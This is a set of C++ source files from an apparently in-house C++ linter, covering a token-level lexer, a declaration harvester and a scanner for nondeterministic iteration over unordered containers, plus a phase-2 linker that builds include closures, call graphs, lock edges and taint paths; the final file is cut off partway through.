      if (after == e) return j;
    }
    return tok::kNpos;
  };
  const auto record_field = [&toks, fields](std::size_t var_idx, char kind) {
    if (fields == nullptr) return;
    const std::string& name = toks[var_idx].text;
    if (!member_shaped(name)) return;
    fields->push_back({name, kind, toks[var_idx].line});
  };
  for (std::size_t i = 0; i < toks.size(); ++i) {
    const Token& t = toks[i];
    if (t.kind != TokKind::kIdent) continue;
    // `using Alias = ...unordered_map<...>...;` makes Alias an unordered
    // type; declarations `Alias x` are caught by the alias branch below.
    if (t.text == "using" && i + 2 < toks.size() && toks[i + 1].kind == TokKind::kIdent &&
        tok::is_punct(toks, i + 2, "=")) {
      for (std::size_t k = i + 3; k < toks.size() && !tok::is_punct(toks, k, ";"); ++k) {
        if (toks[k].kind == TokKind::kIdent && unordered_type(toks[k].text)) {
          sets.unordered.insert(toks[i + 1].text);
          break;
        }
      }
      continue;
    }
    const bool is_unordered = unordered_type(t.text);
    const bool is_ordered = ordered_container_type(t.text);
    const bool is_sequence = sequence_container_type(t.text);
    const bool is_alias = sets.unordered.contains(t.text);
    if (is_unordered || is_ordered || is_sequence) {
      std::size_t type_end = i + 1;
      if (tok::is_punct(toks, i + 1, "<")) {
        const std::size_t close = tok::skip_template_args(toks, i + 1);
        if (close == tok::kNpos) continue;
        type_end = close + 1;
      }
      const std::size_t var = var_after_type(type_end);
      if (var != tok::kNpos) {
        if (is_unordered) {
          sets.unordered.insert(toks[var].text);
          record_field(var, 'u');
        } else if (is_ordered) {
          sets.ordered.insert(toks[var].text);
          record_field(var, 'o');
        } else {
          sets.sequences.insert(toks[var].text);
          record_field(var, 's');
        }
      }
      continue;
    }
    if (is_alias && i + 1 < toks.size() && toks[i + 1].kind == TokKind::kIdent) {
      const std::size_t var = var_after_type(i + 1);
      if (var != tok::kNpos) {
        sets.unordered.insert(toks[var].text);
        record_field(var, 'u');
      }
      continue;
    }
    if (t.text == "double" || t.text == "float") {
      const std::size_t var = var_after_type(i + 1);
      if (var != tok::kNpos) sets.floats.insert(toks[var].text);
    }
    if (t.text == "string" || t.text == "ostringstream" || t.text == "stringstream") {
      const std::size_t var = var_after_type(i + 1);
      if (var != tok::kNpos) sets.strings.insert(toks[var].text);
    }
  }
}

std::vector<LoopSink> scan_unordered_loops(const TokenStream& ts, const DeclSets& sets) {
  std::vector<LoopSink> out;
  const Tokens& toks = ts.tokens;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    if (!tok::is_ident(toks, i, "for") || !tok::is_punct(toks, i + 1, "(")) continue;
    const std::size_t close = tok::match_forward(toks, i + 1, "(", ")");
    if (close == tok::kNpos) continue;

    // Range-for over an unordered variable, or a classic iterator loop
    // calling .begin() on one.
    std::size_t colon = tok::kNpos;
    int depth = 0;
    for (std::size_t k = i + 2; k < close; ++k) {
      if (tok::is_punct(toks, k, "(") || tok::is_punct(toks, k, "[")) ++depth;
      if (tok::is_punct(toks, k, ")") || tok::is_punct(toks, k, "]")) --depth;
      if (depth == 0 && tok::is_punct(toks, k, ":")) {
        colon = k;
        break;
      }
    }
    std::string range_var;
    bool resolved = false;
    const std::size_t expr_begin = colon == tok::kNpos ? i + 2 : colon + 1;
    for (std::size_t k = expr_begin; k < close; ++k) {
      if (toks[k].kind != TokKind::kIdent || !sets.unordered.contains(toks[k].text)) {
        continue;
      }
      if (colon != tok::kNpos) {
        range_var = toks[k].text;
        resolved = true;
        break;
      }
      // Classic loop: require `var.begin(` / `var.cbegin(` in the header.
      if (tok::is_punct(toks, k + 1, ".") &&
          (tok::is_ident(toks, k + 2, "begin") || tok::is_ident(toks, k + 2, "cbegin"))) {
        range_var = toks[k].text;
        resolved = true;
        break;
      }
    }
    if (range_var.empty()) {
      // Cross-TU candidate: a member-shaped range variable with no local
      // declaration of any kind. Phase 2 resolves it against container
      // fields declared by headers in this file's include closure.
      if (colon != tok::kNpos) {
        std::string only_ident;
        bool multiple = false;
        for (std::size_t k = expr_begin; k < close; ++k) {
          if (toks[k].kind != TokKind::kIdent || toks[k].text == "this") continue;
          if (!only_ident.empty() && only_ident != toks[k].text) {
            multiple = true;
            break;
          }
          only_ident = toks[k].text;
        }
        if (!multiple && member_shaped(only_ident) && !sets.known(only_ident)) {
          range_var = only_ident;
        }
      } else {
        for (std::size_t k = expr_begin; k < close; ++k) {
          if (toks[k].kind != TokKind::kIdent || !member_shaped(toks[k].text) ||
              sets.known(toks[k].text)) {
            continue;
          }
          if (tok::is_punct(toks, k + 1, ".") &&
              (tok::is_ident(toks, k + 2, "begin") ||
               tok::is_ident(toks, k + 2, "cbegin"))) {
            range_var = toks[k].text;
            break;
          }
        }
      }
    }
    if (range_var.empty()) continue;

    std::size_t body_begin = close + 1;
    std::size_t body_end;
    if (tok::is_punct(toks, body_begin, "{")) {
      body_end = tok::match_forward(toks, body_begin, "{", "}");
      if (body_end == tok::kNpos) continue;
    } else {
      body_end = body_begin;
      while (body_end < toks.size() && !tok::is_punct(toks, body_end, ";")) ++body_end;
    }

    struct Sink {
      std::string var;
      std::uint32_t line;
      std::string what;
    };
    std::vector<Sink> sinks;
    for (std::size_t k = body_begin; k < body_end; ++k) {
      const Token& t = toks[k];
      if (t.kind == TokKind::kIdent && tok::is_punct(toks, k + 1, ".") &&
          k + 2 < toks.size() && toks[k + 2].kind == TokKind::kIdent &&
          tok::is_punct(toks, k + 3, "(")) {
        const std::string_view method = toks[k + 2].text;
        if ((method == "push_back" || method == "emplace_back" || method == "append") &&
            !sets.ordered.contains(t.text)) {
          sinks.push_back({t.text, t.line, "." + std::string(method) + "()"});
        }
      }
      if (t.kind == TokKind::kPunct && t.text == "<<") {
        const bool shiftish =
            (k > 0 && toks[k - 1].kind == TokKind::kNumber) ||
            (k + 1 < toks.size() && toks[k + 1].kind == TokKind::kNumber);
        if (!shiftish) {
          // Leftmost identifier of the << chain names the stream.
          std::size_t lhs = k;
          while (lhs > 0 && (toks[lhs - 1].kind == TokKind::kIdent ||
                             toks[lhs - 1].kind == TokKind::kString ||
                             tok::is_punct(toks, lhs - 1, "<<") ||
                             tok::is_punct(toks, lhs - 1, ".") ||
                             tok::is_punct(toks, lhs - 1, "::"))) {
            --lhs;
          }
          const std::string var =
              toks[lhs].kind == TokKind::kIdent ? toks[lhs].text : std::string("stream");
          sinks.push_back({var, t.line, "stream <<"});
        }
      }
      if (t.kind == TokKind::kIdent && k + 1 < toks.size() &&
          tok::is_punct(toks, k + 1, "+=") &&
          (sets.floats.contains(t.text) || sets.strings.contains(t.text))) {
        sinks.push_back({t.text, t.line, "+= accumulation"});
      }
    }
    if (sinks.empty()) {
      i = close;
      continue;
    }

    // Escape hatch: the sink is sorted right after the loop (within the
    // enclosing scope), which restores a canonical order.
    std::unordered_set<std::string> sorted_later;
    int escape_depth = 0;
    const std::size_t horizon = std::min(toks.size(), body_end + 512);
    for (std::size_t k = body_end + 1; k < horizon; ++k) {
      if (tok::is_punct(toks, k, "{")) ++escape_depth;
      if (tok::is_punct(toks, k, "}") && --escape_depth < 0) break;
      if (toks[k].kind == TokKind::kIdent &&
          (toks[k].text == "sort" || toks[k].text == "stable_sort")) {
        const std::size_t open = k + 1;
        if (tok::is_punct(toks, open, "(")) {
          const std::size_t end = tok::match_forward(toks, open, "(", ")");
          if (end == tok::kNpos) continue;
          for (std::size_t m = open; m < end; ++m) {
            if (toks[m].kind == TokKind::kIdent) sorted_later.insert(toks[m].text);
          }
        }
      }
    }
    for (const auto& sink : sinks) {
      if (sorted_later.contains(sink.var)) continue;
      out.push_back({range_var, sink.var, sink.what, sink.line, resolved});
    }
    i = close;
  }
  return out;
}

void extract_code_facts(const TokenStream& ts, const TokenStream* sibling,
                        FileFacts& facts) {
  DeclSets sets;
  harvest_decls(&ts, sets, &facts.container_fields);
  harvest_decls(sibling, sets, nullptr);
  for (const LoopSink& sink : scan_unordered_loops(ts, sets)) {
    if (!sink.resolved) {
      facts.pending_loops.push_back({sink.range_var, sink.var, sink.what, sink.line});
    }
  }
  harvest_bounded_fields(ts, facts);
  extract_functions(ts, sibling, sets, facts);
}

}  // namespace at::lint::facts
