#pragma once
// Phase-1 fact extraction for the whole-program engine (see lint.hpp for
// the two-phase overview). Everything here runs once per changed file and
// serializes into the incremental cache: the declaration harvester shared
// with the determinism rule, the unordered-loop scanner, and the function
// scanner that records calls, lock acquisitions, blocking sites, throw
// sites, and atomic operations per function definition.
//
// All extraction is token-level and bounds-tolerant: malformed code
// degrades to missing facts (false negatives), never crashes or misfacts.

#include <string>
#include <unordered_set>
#include <vector>

#include "at_lint/lexer.hpp"
#include "at_lint/lint.hpp"

namespace at::lint::facts {

/// Declared-variable harvesting shared by the determinism rule and the
/// fact extractor: which identifiers are unordered containers, ordered
/// containers, sequence containers, floats, or strings.
struct DeclSets {
  std::unordered_set<std::string> unordered;  ///< vars (and aliases) of unordered type
  std::unordered_set<std::string> ordered;    ///< vars of std::map/std::set/...
  std::unordered_set<std::string> sequences;  ///< vars of vector/deque/array/...
  std::unordered_set<std::string> floats;     ///< double/float vars
  std::unordered_set<std::string> strings;    ///< std::string vars

  [[nodiscard]] bool known(const std::string& name) const {
    return unordered.contains(name) || ordered.contains(name) ||
           sequences.contains(name) || floats.contains(name) || strings.contains(name);
  }
};

/// Harvest declarations from `stream` into `sets`. When `fields` is
/// non-null, member-shaped container variables (trailing '_') are also
/// recorded as ContainerFields for the cross-TU determinism index.
void harvest_decls(const TokenStream* stream, DeclSets& sets,
                   std::vector<FileFacts::ContainerField>* fields = nullptr);

/// One order-sensitive sink inside a loop over a (potentially) unordered
/// container, surviving the sort / ordered-sink escape hatches. `resolved`
/// means the range variable is locally known unordered (per-file rule
/// fires); unresolved entries have a member-shaped range variable no local
/// declaration explains (cross-TU candidates, resolved in phase 2).
struct LoopSink {
  std::string range_var;
  std::string var;        ///< sink variable
  std::string what;       ///< ".push_back()" / "stream <<" / "+= accumulation"
  std::uint32_t line = 0; ///< sink line
  bool resolved = false;
};

/// Scan every for-loop of `ts` for unordered-iteration sinks against the
/// locally-declared `sets`.
[[nodiscard]] std::vector<LoopSink> scan_unordered_loops(const TokenStream& ts,
                                                         const DeclSets& sets);

/// Extract the function-level facts (FileFacts::functions), container
/// fields, and pending cross-TU loops for one file. `sibling` (the paired
/// header of a .cpp, when scanned) contributes field declarations —
/// atomic fields and container fields — to the local resolution scope.
void extract_code_facts(const TokenStream& ts, const TokenStream* sibling,
                        FileFacts& facts);

/// Dataflow summary extraction for one function body (dataflow.cpp): build
/// the local var → origin map (parameters, call results) by scanning
/// assignments to a small fixpoint, then emit FlowEdges for callee
/// argument passes, returns, and sinks (allocation sizes, sequence
/// indexing, member-container growth, file paths, format calls). `sets`
/// classifies locally-declared containers for sink detection.
void extract_flows(const std::vector<Token>& toks, std::size_t body_open,
                   std::size_t body_close, const DeclSets& sets,
                   FileFacts::Function& fn);

}  // namespace at::lint::facts
