#include "at_lint/lexer.hpp"

#include <array>
#include <cctype>

namespace at::lint {

namespace {

bool ident_start(unsigned char c) noexcept {
  return std::isalpha(c) != 0 || c == '_';
}

bool ident_char(unsigned char c) noexcept {
  return std::isalnum(c) != 0 || c == '_';
}

// Multi-char punctuators, longest first so greedy matching is correct.
constexpr std::array<std::string_view, 24> kPuncts = {
    "...", "<<=", ">>=", "->*", "::", "->", "++", "--", "<<", ">>", "<=", ">=",
    "==",  "!=",  "&&",  "||",  "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^="};

class Lexer {
 public:
  explicit Lexer(std::string_view src) : src_(src) {}

  TokenStream run() {
    while (i_ < src_.size()) {
      skip_splices();
      if (i_ >= src_.size()) break;
      const unsigned char c = at(0);
      if (c == '\n') {
        ++i_;
        ++line_;
        in_pp_ = false;
        continue;
      }
      if (std::isspace(c) != 0) {
        ++i_;
        continue;
      }
      if (c == '/' && at(1) == '/') {
        line_comment();
        continue;
      }
      if (c == '/' && at(1) == '*') {
        block_comment();
        continue;
      }
      if (c == '"') {
        string_literal(TokKind::kString);
        continue;
      }
      if (c == '\'') {
        string_literal(TokKind::kChar);
        continue;
      }
      if (ident_start(c)) {
        identifier();
        continue;
      }
      if (std::isdigit(c) != 0 || (c == '.' && std::isdigit(at(1)) != 0)) {
        number();
        continue;
      }
      if (c == '#' && last_code_line_ != line_) in_pp_ = true;
      if (c == '<' && in_pp_ && header_name_position()) {
        header_name();
        continue;
      }
      punct();
    }
    return std::move(out_);
  }

 private:
  unsigned char at(std::size_t k) const noexcept {
    return i_ + k < src_.size() ? static_cast<unsigned char>(src_[i_ + k]) : '\0';
  }

  /// Length of a backslash-newline splice at i_+k (0 if none).
  std::size_t splice_len(std::size_t k) const noexcept {
    if (at(k) != '\\') return 0;
    if (at(k + 1) == '\n') return 2;
    if (at(k + 1) == '\r' && at(k + 2) == '\n') return 3;
    return 0;
  }

  void skip_splices() {
    std::size_t n = 0;
    while ((n = splice_len(0)) != 0) {
      i_ += n;
      ++line_;
    }
  }

  Token start(TokKind kind) const {
    Token tok;
    tok.kind = kind;
    tok.line = line_;
    tok.offset = static_cast<std::uint32_t>(i_);
    tok.in_pp = in_pp_;
    return tok;
  }

  void push(Token tok) {
    last_code_line_ = line_;
    out_.tokens.push_back(std::move(tok));
  }

  void line_comment() {
    Comment comment;
    comment.line = line_;
    comment.own_line = last_code_line_ != line_;
    i_ += 2;
    while (i_ < src_.size()) {
      skip_splices();  // a continuation extends the comment to the next line
      if (i_ >= src_.size() || at(0) == '\n') break;
      comment.text += static_cast<char>(at(0));
      ++i_;
    }
    comment.end_line = line_;
    out_.comments.push_back(std::move(comment));
  }

  void block_comment() {
    Comment comment;
    comment.line = line_;
    comment.own_line = last_code_line_ != line_;
    i_ += 2;
    while (i_ < src_.size() && !(at(0) == '*' && at(1) == '/')) {
      if (at(0) == '\n') ++line_;
      comment.text += static_cast<char>(at(0));
      ++i_;
    }
    i_ += i_ < src_.size() ? 2 : 0;  // consume the closing */
    comment.end_line = line_;
    out_.comments.push_back(std::move(comment));
  }

  /// "..." or '...' with escapes; unterminated literals end at the line
  /// break (error tolerance for malformed input, never desyncs past it).
  void string_literal(TokKind kind) {
    Token tok = start(kind);
    const char quote = static_cast<char>(at(0));
    ++i_;
    while (i_ < src_.size()) {
      skip_splices();
      const unsigned char c = at(0);
      if (c == '\0' && i_ >= src_.size()) break;
      if (c == static_cast<unsigned char>(quote)) {
        ++i_;
        break;
      }
      if (c == '\n') break;  // unterminated
      if (c == '\\') {
        tok.text += static_cast<char>(c);
        ++i_;
        if (i_ < src_.size() && at(0) != '\n') {
          tok.text += static_cast<char>(at(0));
          ++i_;
        }
        continue;
      }
      tok.text += static_cast<char>(c);
      ++i_;
    }
    push(std::move(tok));
  }

  /// R"delim( ... )delim" — no escape or splice processing inside, custom
  /// delimiter up to 16 chars per the standard.
  void raw_string(std::uint32_t start_line, std::uint32_t start_offset) {
    Token tok;
    tok.kind = TokKind::kString;
    tok.line = start_line;
    tok.offset = start_offset;
    tok.in_pp = in_pp_;
    ++i_;  // opening quote
    std::string delim;
    while (i_ < src_.size() && at(0) != '(' && delim.size() <= 16) {
      delim += static_cast<char>(at(0));
      ++i_;
    }
    if (i_ < src_.size()) ++i_;  // opening paren
    const std::string close = ")" + delim + "\"";
    while (i_ < src_.size()) {
      if (src_.compare(i_, close.size(), close) == 0) {
        i_ += close.size();
        break;
      }
      if (at(0) == '\n') ++line_;
      tok.text += static_cast<char>(at(0));
      ++i_;
    }
    push(std::move(tok));
  }

  void identifier() {
    Token tok = start(TokKind::kIdent);
    while (i_ < src_.size()) {
      skip_splices();
      if (!ident_char(at(0))) break;
      tok.text += static_cast<char>(at(0));
      ++i_;
    }
    // Encoding prefix directly attached to a literal?
    static constexpr std::array<std::string_view, 5> kRawPrefix = {"R", "LR", "uR", "UR",
                                                                   "u8R"};
    static constexpr std::array<std::string_view, 4> kPrefix = {"u8", "u", "U", "L"};
    if (at(0) == '"') {
      for (const auto p : kRawPrefix) {
        if (tok.text == p) {
          raw_string(tok.line, tok.offset);
          return;
        }
      }
      for (const auto p : kPrefix) {
        if (tok.text == p) {
          string_literal(TokKind::kString);
          return;
        }
      }
    }
    if (at(0) == '\'') {
      for (const auto p : kPrefix) {
        if (tok.text == p) {
          string_literal(TokKind::kChar);
          return;
        }
      }
    }
    push(std::move(tok));
  }

  /// pp-number: digits, identifier chars, digit separators, '.', and
  /// signed exponents. Deliberately permissive (1'000'000, 0x1p-3, 1.5e+9).
  void number() {
    Token tok = start(TokKind::kNumber);
    while (i_ < src_.size()) {
      skip_splices();
      const unsigned char c = at(0);
      if (ident_char(c) || c == '.' || c == '\'') {
        tok.text += static_cast<char>(c);
        ++i_;
        continue;
      }
      if ((c == '+' || c == '-') && !tok.text.empty()) {
        const char e = tok.text.back();
        if (e == 'e' || e == 'E' || e == 'p' || e == 'P') {
          tok.text += static_cast<char>(c);
          ++i_;
          continue;
        }
      }
      break;
    }
    push(std::move(tok));
  }

  /// True at a '<' that opens `#include <...>`.
  bool header_name_position() const {
    const auto& toks = out_.tokens;
    if (toks.size() < 2) return false;
    const Token& a = toks[toks.size() - 2];
    const Token& b = toks[toks.size() - 1];
    return a.in_pp && b.in_pp && a.text == "#" &&
           (b.text == "include" || b.text == "include_next");
  }

  void header_name() {
    Token tok = start(TokKind::kHeaderName);
    ++i_;  // '<'
    while (i_ < src_.size() && at(0) != '>' && at(0) != '\n') {
      tok.text += static_cast<char>(at(0));
      ++i_;
    }
    if (i_ < src_.size() && at(0) == '>') ++i_;
    push(std::move(tok));
  }

  void punct() {
    Token tok = start(TokKind::kPunct);
    for (const auto p : kPuncts) {
      if (src_.compare(i_, p.size(), p) == 0) {
        tok.text = std::string(p);
        i_ += p.size();
        push(std::move(tok));
        return;
      }
    }
    // Single byte — including stray non-UTF8 bytes, which degrade to
    // one-byte punctuation and keep the stream synchronized.
    tok.text = std::string(1, static_cast<char>(at(0)));
    ++i_;
    push(std::move(tok));
  }

  std::string_view src_;
  std::size_t i_ = 0;
  std::uint32_t line_ = 1;
  bool in_pp_ = false;
  std::uint32_t last_code_line_ = 0;
  TokenStream out_;
};

}  // namespace

TokenStream lex(std::string_view source) { return Lexer(source).run(); }

}  // namespace at::lint
