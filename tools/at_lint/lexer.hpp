#pragma once
// at_lint's C++ lexer. Dependency-free (no libclang): a single pass over the
// raw bytes producing a token stream with comments carried out-of-band, so
// every rule operates on real tokens instead of substrings — a `rand` inside
// a string literal or a `new` inside a comment can no longer fire a rule.
//
// What it understands (and tests/test_at_lexer.cpp exercises):
//   - // and /* */ comments, including /* /* */ (block comments do not nest
//     in C++; the first */ closes) and // inside string literals.
//   - "...", '...' (with escapes), encoding prefixes (u8, u, U, L), and raw
//     strings R"delim(...)delim" with arbitrary custom delimiters.
//   - Backslash-newline line continuations anywhere, including inside
//     identifiers, // comments, and #define bodies; physical line numbers
//     are preserved for reporting.
//   - Preprocessor directives: every token on a directive's (logical) line
//     is flagged in_pp, and `#include <...>` header-names lex as one
//     kHeaderName token instead of a `<` expression.
//   - pp-number digit separators (1'000'000) — the ' does not open a char
//     literal.
//   - Arbitrary non-UTF8 bytes degrade to single-byte punctuation tokens;
//     the lexer never desynchronizes or reads out of bounds.
//
// The lexer is intentionally not a preprocessor: macros are not expanded and
// token text is the spliced spelling (continuations removed).

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace at::lint {

enum class TokKind : std::uint8_t {
  kIdent,       ///< identifier or keyword (no keyword table; rules match text)
  kNumber,      ///< pp-number, including separators and float exponents
  kString,      ///< string literal; text is the body without quotes/prefix
  kChar,        ///< character literal; text is the body without quotes
  kHeaderName,  ///< <...> after #include; text is the body without brackets
  kPunct,       ///< operator/punctuator, multi-char ops lexed greedily
};

struct Token {
  TokKind kind = TokKind::kPunct;
  std::uint32_t line = 0;    ///< 1-based physical line of the first byte
  std::uint32_t offset = 0;  ///< byte offset of the first byte in the source
  bool in_pp = false;        ///< part of a preprocessor directive line
  std::string text;          ///< spelling (splices removed; literals: body only)
};

/// Comments are not tokens: rules never see them, but the engine scans them
/// for `at_lint: allow(<rule>)` inline suppressions.
struct Comment {
  std::uint32_t line = 0;      ///< line of the opening // or /*
  std::uint32_t end_line = 0;  ///< line of the final byte (== line for //)
  bool own_line = false;       ///< no code token precedes it on `line`
  std::string text;            ///< body without the comment markers
};

struct TokenStream {
  std::vector<Token> tokens;
  std::vector<Comment> comments;
};

/// Lex `source` (raw file bytes). Never throws on malformed input —
/// unterminated literals and stray bytes produce best-effort tokens.
[[nodiscard]] TokenStream lex(std::string_view source);

}  // namespace at::lint
