// Phase-2 linker implementation (see link.hpp). Everything here operates on
// FileFacts only — no token streams, no file content — so a fully-warm run
// (every phase-1 result from cache) still gets complete whole-program
// analysis.

#include <algorithm>
#include <array>
#include <deque>
#include <set>
#include <tuple>

#include "at_lint/link.hpp"

namespace at::lint {

namespace {

bool starts_with(std::string_view text, std::string_view prefix) {
  return text.size() >= prefix.size() && text.compare(0, prefix.size(), prefix) == 0;
}

bool ends_with(std::string_view text, std::string_view suffix) {
  return text.size() >= suffix.size() &&
         text.compare(text.size() - suffix.size(), suffix.size(), suffix) == 0;
}

/// Mirror of the quoted-include resolution in checks.cpp: module roots
/// first (matching the CMake include dirs), then includer-relative.
std::ptrdiff_t resolve_include(const std::unordered_map<std::string, std::size_t>& index,
                               const std::string& includer, const std::string& inc) {
  static constexpr std::array<std::string_view, 5> kRoots = {"src/", "tools/", "bench/",
                                                             "tests/", ""};
  for (const auto root : kRoots) {
    const auto it = index.find(std::string(root) + inc);
    if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
  }
  const std::size_t slash = includer.rfind('/');
  if (slash != std::string::npos) {
    const auto it = index.find(includer.substr(0, slash + 1) + inc);
    if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
  }
  return -1;
}

std::string_view last_component(std::string_view name) {
  const std::size_t pos = name.rfind("::");
  return pos == std::string_view::npos ? name : name.substr(pos + 2);
}

/// Intrinsic hot roots: the sim::Engine drain loops and the shard drain.
bool intrinsic_hot_root(std::string_view path, std::string_view last) {
  if (starts_with(path, "src/sim/") &&
      (last == "run" || last == "run_until" || last == "step")) {
    return true;
  }
  return starts_with(path, "src/") && last == "run_shard";
}

}  // namespace

std::string ProjectGraph::taint_chain(std::size_t f) const {
  std::vector<std::string_view> chain;
  std::unordered_set<std::size_t> seen;
  for (std::size_t cur = f; cur != kNone && seen.insert(cur).second;
       cur = taint_parent[cur]) {
    chain.push_back(fns[cur].fn->name);
  }
  std::string out;
  for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
    if (!out.empty()) out += " -> ";
    out += *it;
  }
  return out;
}

std::string ProjectGraph::hot_chain(std::size_t f) const {
  std::vector<std::string_view> chain;
  for (std::size_t cur = f; cur != kNone; cur = hot_parent[cur]) {
    chain.push_back(fns[cur].fn->name);
    if (hot_parent[cur] == cur) break;  // defensive: no self-loops expected
  }
  std::string out;
  for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
    if (!out.empty()) out += " -> ";
    out += *it;
  }
  return out;
}

ProjectGraph link_project(const std::vector<FileAnalysis>& files) {
  ProjectGraph g;
  g.files = &files;

  std::unordered_map<std::string, std::size_t> file_index;
  for (std::size_t i = 0; i < files.size(); ++i) file_index.emplace(files[i].path, i);

  // ---- include closures (reflexive; sibling .cpp -> .hpp edge added even
  // when the include is spelled with a module-root prefix the resolver
  // already handles, for robustness).
  std::vector<std::vector<std::size_t>> inc_adj(files.size());
  for (std::size_t i = 0; i < files.size(); ++i) {
    for (const auto& inc : files[i].facts.quoted_includes) {
      const std::ptrdiff_t target = resolve_include(file_index, files[i].path, inc);
      if (target >= 0) inc_adj[i].push_back(static_cast<std::size_t>(target));
    }
    if (ends_with(files[i].path, ".cpp")) {
      const auto it = file_index.find(sibling_header_path(files[i].path));
      if (it != file_index.end()) inc_adj[i].push_back(it->second);
    }
  }
  for (std::size_t i = 0; i < files.size(); ++i) {
    auto& reach = g.closure[files[i].path];
    std::deque<std::size_t> queue{i};
    reach.insert(files[i].path);
    std::vector<char> seen(files.size(), 0);
    seen[i] = 1;
    while (!queue.empty()) {
      const std::size_t u = queue.front();
      queue.pop_front();
      for (const std::size_t v : inc_adj[u]) {
        if (seen[v] != 0) continue;
        seen[v] = 1;
        reach.insert(files[v].path);
        queue.push_back(v);
      }
    }
  }

  // ---- function entries + indices
  for (std::size_t i = 0; i < files.size(); ++i) {
    for (const auto& fn : files[i].facts.functions) g.fns.push_back({i, &fn});
  }
  const std::size_t n = g.fns.size();
  std::unordered_map<std::string, std::vector<std::size_t>> by_name;    // full name
  std::unordered_map<std::string, std::vector<std::size_t>> by_method;  // last component
  for (std::size_t f = 0; f < n; ++f) {
    by_name[g.fns[f].fn->name].push_back(f);
    by_method[std::string(last_component(g.fns[f].fn->name))].push_back(f);
  }

  // Union annotations across same-name entries: AT_HOT / AT_ACQUIRES on a
  // header prototype must summarize the out-of-line definition too.
  g.hot_flag.assign(n, 0);
  std::vector<std::set<std::string>> acq(n);
  for (std::size_t f = 0; f < n; ++f) {
    if (g.fns[f].fn->hot) g.hot_flag[f] = 1;
    acq[f].insert(g.fns[f].fn->acquires.begin(), g.fns[f].fn->acquires.end());
  }
  for (const auto& [name, group] : by_name) {
    if (group.size() < 2) continue;
    bool any_hot = false;
    std::set<std::string> merged;
    for (const std::size_t f : group) {
      any_hot = any_hot || g.hot_flag[f] != 0;
      merged.insert(acq[f].begin(), acq[f].end());
    }
    for (const std::size_t f : group) {
      if (any_hot) g.hot_flag[f] = 1;
      acq[f] = merged;
    }
  }

  // ---- call-edge resolution
  static constexpr std::size_t kMaxFanout = 6;
  g.edges.assign(n, {});
  for (std::size_t f = 0; f < n; ++f) {
    const std::string& caller_path = files[g.fns[f].file].path;
    const auto& reach = g.closure[caller_path];
    for (const auto& call : g.fns[f].fn->calls) {
      const auto it = by_method.find(call.name);
      if (it == by_method.end()) continue;
      std::vector<std::size_t> visible;
      std::set<std::string_view> names;
      for (const std::size_t e : it->second) {
        const std::string& callee_path = files[g.fns[e].file].path;
        bool ok = reach.contains(callee_path);
        if (!ok && ends_with(callee_path, ".cpp")) {
          // A definition in x.cpp is callable wherever x.hpp is visible.
          ok = reach.contains(sibling_header_path(callee_path));
        }
        if (!ok) continue;
        visible.push_back(e);
        names.insert(g.fns[e].fn->name);
      }
      if (visible.empty() || names.size() > kMaxFanout) continue;
      for (const std::size_t e : visible) {
        g.edges[f].push_back({e, &call, names.size()});
      }
    }
  }

  // ---- lock-acquisition fixpoint (unique-resolution edges only)
  for (int iter = 0; iter < 20; ++iter) {
    bool changed = false;
    for (std::size_t f = 0; f < n; ++f) {
      for (const auto& e : g.edges[f]) {
        if (e.fanout != 1) continue;
        for (const auto& m : acq[e.callee]) {
          if (acq[f].insert(m).second) changed = true;
        }
      }
    }
    if (!changed) break;
  }
  g.acquires.assign(n, {});
  for (std::size_t f = 0; f < n; ++f) {
    g.acquires[f].assign(acq[f].begin(), acq[f].end());
  }

  // ---- propagated lock edges: held at the call site -> acquired by the
  // callee's summary. Same-name pairs are skipped: distinct instances of a
  // same-named member mutex would forge a self-deadlock report, and a
  // genuinely recursive acquisition is Clang -Wthread-safety's department.
  std::set<std::tuple<std::string, std::string, std::string, std::uint32_t>> prop;
  for (std::size_t f = 0; f < n; ++f) {
    for (const auto& e : g.edges[f]) {
      if (e.fanout != 1 || e.site->held.empty()) continue;
      for (const auto& h : e.site->held) {
        for (const auto& m : acq[e.callee]) {
          if (h == m) continue;
          prop.emplace(h, m, files[g.fns[f].file].path, e.site->line);
        }
      }
    }
  }
  for (const auto& [first, second, file, line] : prop) {
    g.propagated_lock_edges.push_back({first, second, file, line});
  }

  // ---- hot-path reachability (edges with fanout <= 2)
  g.hot.assign(n, 0);
  g.hot_root.assign(n, 0);
  g.hot_parent.assign(n, ProjectGraph::kNone);
  std::deque<std::size_t> queue;
  for (std::size_t f = 0; f < n; ++f) {
    const std::string& path = files[g.fns[f].file].path;
    if (!starts_with(path, "src/")) continue;
    const bool root = g.hot_flag[f] != 0 ||
                      intrinsic_hot_root(path, last_component(g.fns[f].fn->name));
    if (root) {
      g.hot[f] = 1;
      g.hot_root[f] = 1;
      queue.push_back(f);
    }
  }
  while (!queue.empty()) {
    const std::size_t u = queue.front();
    queue.pop_front();
    for (const auto& e : g.edges[u]) {
      if (e.fanout > 2 || g.hot[e.callee] != 0) continue;
      g.hot[e.callee] = 1;
      g.hot_parent[e.callee] = u;
      queue.push_back(e.callee);
    }
  }

  // ---- taint propagation (worklist over FlowEdge summaries)
  //
  // Union the source/sanitizer markers across same-name entries first (an
  // AT_UNTRUSTED header prototype marks the out-of-line definition), then
  // run the interprocedural fixpoint: a tainted origin flowing into a
  // call argument taints the callee's parameter; a tainted origin flowing
  // into `return` taints every caller that consumes the result — unless
  // the entry sanitizes. Only fanout == 1 resolutions propagate, matching
  // the throw analysis: a wrong edge would forge a taint path.
  g.untrusted.assign(n, 0);
  g.sanitizes.assign(n, 0);
  for (std::size_t f = 0; f < n; ++f) {
    if (g.fns[f].fn->untrusted) g.untrusted[f] = 1;
    if (g.fns[f].fn->sanitizes) g.sanitizes[f] = 1;
  }
  for (const auto& [name, group] : by_name) {
    if (group.size() < 2) continue;
    bool any_untrusted = false, any_sanitizes = false;
    for (const std::size_t f : group) {
      any_untrusted = any_untrusted || g.untrusted[f] != 0;
      any_sanitizes = any_sanitizes || g.sanitizes[f] != 0;
    }
    for (const std::size_t f : group) {
      if (any_untrusted) g.untrusted[f] = 1;
      if (any_sanitizes) g.sanitizes[f] = 1;
    }
  }

  // Per-caller name → unique-resolution callees, plus reverse edges so a
  // late ret_taint discovery re-queues consumers.
